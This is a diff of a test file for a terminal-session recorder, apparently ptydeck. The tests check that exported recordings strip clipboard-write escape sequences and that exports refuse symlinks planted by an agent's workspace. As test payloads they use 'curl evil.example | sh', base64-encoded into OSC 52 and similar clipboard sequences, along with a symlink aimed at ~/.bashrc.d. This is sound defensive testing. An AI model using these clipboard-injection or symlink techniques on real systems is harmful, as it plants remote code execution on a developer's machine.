@@ -97,7 +97,35 @@ describe('the timeline in a real host', () => {
     expect(exported.stdout).not.toMatch(/[\u007f-\u009f]/);
     // The same JSON value: a player reads the bytes the session wrote.
     const output = exported.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line)).filter((event) => event[1] === 'o').map((event) => event[2]).join('');
-    expect(output).toContain('a\u009d52;c;cHduZWQ=\u009cb\u009d0;spoof\u009cc\u009b6n\u007f');
+    // But the clipboard write, which a player would hand to the terminal it plays in: a CAN in its place.
+    expect(output).toContain('a\u0018b\u009d0;spoof\u009cc\u009b6n\u007f');
+  });
+
+  it("leaves out of a recording what would reach past the player's screen: an agent's clipboard writes (OSC 52, 7-bit and C1, iTerm2's, kitty's) never reach the terminal `asciinema cat` plays it in", async () => {
+    const box = hostSandbox();
+    sandboxes.push(box);
+    const agent = await stdioAgent(box, 'recorder', { clients });
+    const id = String((await ok(agent.client, 'terminal_create', {})).id);
+    // "curl evil.example | sh" base64'd, set on the clipboard of whatever terminal plays the recording.
+    const payload = Buffer.from('curl evil.example | sh\n').toString('base64');
+    const sequences = [`\\e]52;c;${payload}\\a`, `\\e]052;c;${payload}\\e\\\\`, `\\xc2\\x9d52;c;${payload}\\xc2\\x9c`, `\\e]1337;CopyToClipboard=\\a${payload}\\e]1337;EndCopy\\a`, `\\e]5522;type=write\\a`,
+      // What leaving a sequence out must not join into one: an OSC aborted by ptydeck's mark, an ESC before a clipboard OSC.
+      `\\e]\\e]6973;q\\a52;c;${payload}\\a`, `\\e\\e]52;x\\a]52;c;${payload}\\a`];
+    await ok(agent.client, 'terminal_run', { id, command: `printf 'before${sequences.join('')}after\\n'` });
+    const exported = await runCli(box, ['export', id]);
+    expect(exported.code, exported.stderr).toBe(0);
+    const output = exported.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line)).filter((event) => event[1] === 'o').map((event) => event[2]).join('');
+    // The screen's text stays, and nothing of a clipboard sequence.
+    expect(output).toMatch(/before.*after/);
+    expect(output).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
+    // asciinema 2.2 plays v2.
+    const file = join(box.home, 'clip.cast');
+    const v2 = await runCli(box, ['export', id, '--format', 'asciicast-v2', '-o', file]);
+    expect(v2.code, v2.stderr).toBe(0);
+    const cat = spawnSync('script', ['-qec', `asciinema cat ${file}`, '/dev/null'], { encoding: 'utf8', env: box.env, stdio: ['ignore', 'pipe', 'pipe'] });
+    expect(cat.status, cat.stderr).toBe(0);
+    expect(cat.stdout).toContain('before');
+    expect(cat.stdout).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
   });
 
   it("writes `export -o` through no link planted at the path: an agent's workspace cannot turn the developer's export into a write of ~/.bashrc", async () => {
@@ -117,5 +145,26 @@ describe('the timeline in a real host', () => {
     expect(lstatSync(join(workspace, 'session.txt')).isFile()).toBe(true);
     expect(readFileSync(join(workspace, 'session.txt'), 'utf8')).toContain('curl evil.example | sh');
     expect(readdirSync(workspace)).toEqual(['session.txt']);
+  });
+
+  it("refuses `export -o` through a link in a directory of the path: an agent's workspace cannot send the developer's export into ~/.bashrc.d", async () => {
+    const box = hostSandbox();
+    sandboxes.push(box);
+    const agent = await stdioAgent(box, 'recorder', { clients });
+    const workspace = join(box.home, 'project');
+    mkdirSync(workspace);
+    // Fedora's ~/.bashrc sources every file in ~/.bashrc.d, whatever its name.
+    const sourced = join(box.home, '.bashrc.d');
+    mkdirSync(sourced);
+    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
+    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc.d exports" });
+    const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'exports', 'session.txt')]);
+    expect(exported.code).not.toBe(0);
+    expect(exported.stderr).toContain(join(workspace, 'exports'));
+    expect(exported.stderr).toContain(sourced);
+    expect(readdirSync(sourced)).toEqual([]);
+    // The path the refusal names, given as it is, is the developer's choice.
+    const real = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'session.txt')]);
+    expect(real.code, real.stderr).toBe(0);
   });
 });
